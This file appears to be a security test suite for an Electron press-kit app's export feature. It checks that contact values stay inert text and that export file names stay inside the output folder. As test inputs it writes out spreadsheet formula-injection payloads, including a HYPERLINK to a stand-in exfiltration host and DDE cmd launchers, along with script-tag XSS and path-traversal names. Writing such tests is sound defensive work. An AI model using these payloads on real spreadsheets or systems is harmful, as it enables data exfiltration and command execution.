import { readdir, readFile, writeFile, chmod } from 'node:fs/promises';
import path from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import ICAL from 'ical.js';
import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { createContext } from '../../../electron/host/context.js';
import { Library } from '../../../electron/library/library.js';
import { exportFileName, safeFileName, slugify } from '../../../electron/export/file-names.js';
import { newId } from '../../../electron/model/index.js';
import type { HandlerContext } from '../../../electron/api/define.js';
import { call } from '../../helpers/api.js';
import { tempDir } from '../../helpers/temp-dir.js';
// @ts-expect-error: a plain .mjs script shared with the command line, no type declarations
import { corpusFiles } from '../../fixtures/hostile/make-corpus.mjs';

type Corpus = Record<string, string | Uint8Array>;
const b64 = (c: string | Uint8Array): string => Buffer.from(c).toString('base64');

/** The values a spreadsheet would run, exactly as the CSV gave them. */
const FORMULAS = [
  '=HYPERLINK("http://exfil.example/?d="&A2,"Le Devoir")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '=1+1',
  '=DDE("cmd";"/C calc";"!A0")',
];

/** A library with the hostile contacts on a sheet, a release and a logo, gathered in one kit. */
async function hostileKit(kitName = 'Trousse BIO 2025'): Promise<{ lib: Library; ctx: HandlerContext & { dispose(): Promise<void> }; kitId: string; logoId: string; dir: string }> {
  const corpus = (await corpusFiles(['contacts-formula-injection.csv', 'contacts-script-names.vcf', 'contacts-newline-injection.csv', 'release-traversal-name.txt', 'png-named-jpg.jpg'])) as Corpus;
  const dir = await tempDir('mk-export-safety-');
  const lib = await Library.open(path.join(dir, 'library'));
  const ctx = createContext(lib, 'cli');
  const file = (name: string) => corpus[name] ?? '';
  await call(ctx, 'import.contacts', { fileName: 'medias.csv', contentBase64: b64(file('contacts-formula-injection.csv')) });
  await call(ctx, 'import.contacts', { fileName: 'scripts.vcf', contentBase64: b64(file('contacts-script-names.vcf')) });
  await call(ctx, 'import.contacts', { fileName: 'retours.csv', contentBase64: b64(file('contacts-newline-injection.csv')) });
  const release = await call(ctx, 'import.release', { fileName: 'communique.txt', contentBase64: b64(file('release-traversal-name.txt')) });
  const logo = await call(ctx, 'import.logo', { fileName: 'boreal.png', contentBase64: b64(file('png-named-jpg.jpg')), organization: 'Institut Boréal' });
  const contactIds = lib.doc.contacts.map((c) => c.id);
  const sheet = await call(ctx, 'sheets.create', { data: { name: 'Médias', contactIds } });
  const kit = await call(ctx, 'kits.create', {
    data: {
      name: kitName,
      lang: 'fr-CA',
      sections: [
        { id: newId('section'), type: 'release', releaseId: release.id },
        { id: newId('section'), type: 'logos', title: 'Logos', logoIds: [logo.id] },
        { id: newId('section'), type: 'contacts', title: 'Contacts', sheetId: sheet.id },
      ],
    },
  });
  return { lib, ctx, kitId: kit.id, logoId: logo.id, dir };
}

/**
 * French typography turns "…" into « … » in the documents (the officer's own organization names get the same
 * treatment): quotes and their thin spaces are set aside, every other character must be there as typed.
 */
function unquoted(s: string): string {
  return s.replace(/["«»“”\u00a0\u202f]/g, '').replace(/ +/g, ' ');
}

function xmlText(xml: string): string {
  return [...xml.matchAll(/<w:t(?:\s[^>]*)?>([^<]*)<\/w:t>/g)]
    .map((m) => m[1] ?? '')
    .join('')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

function htmlText(html: string): string {
  return html
    .replace(/<(style|script)\b[\s\S]*?<\/\1>/gi, '')
    .replace(/<[^>]*>/g, '')
    .replace(/&#(\d+);/g, (_, n: string) => String.fromCharCode(Number(n)))
    .replace(/&quot;|&#34;/g, '"')
    .replace(/&#39;|&apos;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

describe('formula and script values stay literal text in every export', () => {
  it('DOCX, vCard, Markdown and HTML carry =HYPERLINK, +cmd, -2+3 and @SUM as plain text, never as fields, links or markup', async () => {
    const { lib, ctx, kitId, dir } = await hostileKit();
    try {
      const out = path.join(dir, 'out');
      const result = await call(ctx, 'export.kit', { id: kitId, formats: ['docx', 'md', 'vcf', 'html'], outDir: out });
      const byFormat = new Map(result.files.map((f) => [f.format, f.path]));

      // DOCX: the text runs hold the formulas; no field code, and no relationship points at the exfiltration host.
      const docx = unzipSync(new Uint8Array(await readFile(byFormat.get('docx') ?? '')));
      const documentXml = strFromU8(docx['word/document.xml'] ?? new Uint8Array());
      const text = unquoted(xmlText(documentXml));
      for (const f of FORMULAS) expect(text, f).toContain(unquoted(f));
      expect(text).toContain('<script>alert(1)</script> Jean');
      // The only fields are the app's own contents (TOC) and their page references, never a value's.
      expect(documentXml).not.toMatch(/<w:fldSimple/);
      const fields = [...documentXml.matchAll(/<w:instrText[^>]*>([^<]*)<\/w:instrText>/g)].map((m) => m[1]);
      for (const f of fields) expect(f).toMatch(/^(TOC \\h \\o &quot;1-1&quot; \\z|PAGEREF _Toc\d+ \\h)$/);
      expect(strFromU8(docx['word/_rels/document.xml.rels'] ?? new Uint8Array())).not.toContain('exfil.example');

      // vCard: read back with a vCard parser, every value is the same string.
      const vcf = await readFile(byFormat.get('vcf') ?? '', 'utf8');
      const cards = (ICAL.parse(vcf) as unknown[]).map((c) => new ICAL.Component(c as unknown[]));
      const values = cards.flatMap((c) =>
        c.getAllProperties().flatMap((p) => p.getValues().flatMap((v: unknown) => (Array.isArray(v) ? v.map(String) : [String(v)]))),
      );
      // (Phones become tel: URIs, digits only: a formula in a phone column does not survive as a number.)
      for (const f of ['=HYPERLINK("http://exfil.example/?d="&A2,"Le Devoir")', '@SUM(A1:A9)', '=1+1', '-2+3', '=DDE("cmd";"/C calc";"!A0")']) {
        expect(values.map(unquoted), f).toContain(unquoted(f));
      }
      expect(values.some((v) => v.startsWith("+cmd|' /C calc'!A0"))).toBe(true);
      // Line breaks inside a value cannot start a property or a card of their own.
      expect(cards).toHaveLength(lib.doc.contacts.length);
      expect(cards.flatMap((c) => c.getAllProperties('email').map((p) => String(p.getFirstValue())))).not.toContain('faux@evil.example');
      expect(cards.some((c) => c.getAllProperties('photo').length > 0)).toBe(false);
      expect(vcf).not.toMatch(/^(FN:Faux|EMAIL:faux|PHOTO)/m);

      // Markdown: rendered by a Markdown engine, the formulas are text (no list item from "-2+3", no link to exfil).
      const md = await readFile(byFormat.get('md') ?? '', 'utf8');
      const rendered = await marked.parse(md);
      const mdText = unquoted(htmlText(rendered));
      for (const f of FORMULAS) expect(mdText, f).toContain(unquoted(f));
      // (A Markdown viewer may autolink the bare URL inside the text, as it would in any contact note: still text.)
      expect(rendered).not.toMatch(/<script|<img[^>]*onerror|<li>[^<]*2\+3|href="javascript|<h1>Titre/i);

      // HTML (the preview and the PDF's source): names with markup are escaped text.
      const html = await readFile(byFormat.get('html') ?? '', 'utf8');
      expect(html).not.toContain('<script>alert(1)</script>');
      expect(html).not.toMatch(/<img[^>]*onerror/i);
      const htmlVisible = unquoted(htmlText(html));
      for (const f of FORMULAS) expect(htmlVisible, f).toContain(unquoted(f));
    } finally {
      await ctx.dispose();
      await lib.close();
    }
  });
});

describe('export file names', () => {
  const HOSTILE = [
    '../../../etc/passwd',
    '..\\..\\Windows\\System32\\config',
    'CON',
    'nul',
    'NUL.txt',
    'com1',
    'LPT9',
    'rapport\u202Etxt.exe',
    'bad\u0000name',
    'a'.repeat(300),
    'trousse-é'.repeat(40),
    '   ',
    '....',
    '/',
    'プレスキット2025',
    'Conférence de presse : « Québec–Japon » 2025 ?*|<>',
  ];

  it('are short ASCII names with no path, no reserved device name and no bidi control, whatever the kit is called', () => {
    const taken = new Set<string>();
    for (const name of HOSTILE) {
      for (const f of [exportFileName(name, 'fr-CA', 'pdf'), exportFileName(name, 'en-US\u202E../', 'd/o/c/x'), safeFileName(name, 'png', taken), `${slugify(name)}.zip`]) {
        expect(f, JSON.stringify(name)).toMatch(/^[a-z0-9][a-z0-9-]*(_[A-Za-z-]+)?\.[a-z0-9]+$/);
        expect(f.length).toBeLessThanOrEqual(80);
        expect(f).not.toContain('..');
        const stem = f.split(/[._]/)[0] ?? '';
        expect(stem).not.toMatch(/^(con|prn|aux|nul|com[0-9]|lpt[0-9])$/i);
      }
    }
  });

  it('a kit named with ../, NUL, CON, U+202E and 300 characters exports inside its folder', async () => {
    const kitName = `../../${'\u202E'}CON\u0000${'x'.repeat(300)}/../NUL.txt`;
    const { lib, ctx, kitId, dir } = await hostileKit(kitName);
    try {
      const out = path.join(dir, 'out');
      const result = await call(ctx, 'export.kit', { id: kitId, formats: ['docx', 'md', 'vcf', 'html'], outDir: out });
      expect(result.files).toHaveLength(4);
      for (const f of result.files) {
        expect(path.dirname(f.path)).toBe(out);
        expect(f.name).toMatch(/^[a-z0-9-]{1,60}_fr-CA\.(docx|md|vcf|html)$/);
      }
      expect((await readdir(out)).sort()).toEqual(result.files.map((f) => f.name).sort());
      expect((await readdir(dir)).sort()).toEqual(['library', 'out']);
      // The ZIP bundle's entries are relative, inside the archive, with safe names (no zip-slip on extraction).
      const zip = await call(ctx, 'export.kit', { id: kitId, formats: ['zip'], outDir: out });
      const entries = Object.keys(unzipSync(new Uint8Array(await readFile(zip.files[0]?.path ?? ''))));
      expect(entries.length).toBeGreaterThanOrEqual(4);
      for (const e of entries) {
        expect(e, e).not.toMatch(/(^|\/)\.\.(\/|$)|^\/|\\|[\u0000-\u001f\u202a-\u202e\u2066-\u2069]/);
        expect(e.split('/').pop() ?? '', e).not.toMatch(/^(con|prn|aux|nul|com[0-9]|lpt[0-9])(\.|$)/i);
      }
      // Without an output folder, the export goes under the library's own exports/ folder.
      const inside = await call(ctx, 'export.kit', { id: kitId, formats: ['md'] });
      const rel = path.relative(path.join(dir, 'library', 'exports'), inside.files[0]?.path ?? '');
      expect(rel.startsWith('..') || path.isAbsolute(rel)).toBe(false);
      expect(rel.split(path.sep)).toHaveLength(2);
    } finally {
      await ctx.dispose();
      await lib.close();
    }
  });
});

describe('binaries under files/ are checked before they are exported', () => {
  it('an altered logo file fails the export with FILE_MISSING naming the logo, and writes nothing', async () => {
    const { lib, ctx, kitId, logoId, dir } = await hostileKit();
    try {
      const logo = lib.doc.logos.find((l) => l.id === logoId);
      const sha = logo?.file.sha256 ?? '';
      const stored = path.join(dir, 'library', 'files', sha.slice(0, 2), sha);
      await chmod(stored, 0o644);
      const bytes = await readFile(stored);
      bytes[bytes.length - 20] = (bytes[bytes.length - 20] ?? 0) ^ 0xff;
      await writeFile(stored, bytes);
      const out = path.join(dir, 'out');
      for (const formats of [['docx'], ['html'], ['zip']] as const) {
        await expect(call(ctx, 'export.kit', { id: kitId, formats: [...formats], outDir: out })).rejects.toMatchObject({
          code: 'FILE_MISSING',
          message: expect.stringMatching(/boreal/i) as unknown as string,
        });
      }
      expect(await readdir(out).catch(() => [])).toEqual([]);
    } finally {
      await ctx.dispose();
      await lib.close();
    }
  });

  it('a deleted logo file fails the export with FILE_MISSING naming the logo', async () => {
    const { lib, ctx, kitId, logoId, dir } = await hostileKit();
    try {
      const sha = lib.doc.logos.find((l) => l.id === logoId)?.file.sha256 ?? '';
      const { rm } = await import('node:fs/promises');
      await rm(path.join(dir, 'library', 'files', sha.slice(0, 2), sha), { force: true });
      await expect(call(ctx, 'export.kit', { id: kitId, formats: ['docx'], outDir: path.join(dir, 'out') })).rejects.toMatchObject({
        code: 'FILE_MISSING',
        message: expect.stringMatching(/boreal.*missing|missing.*boreal/i) as unknown as string,
      });
    } finally {
      await ctx.dispose();
      await lib.close();
    }
  });
});
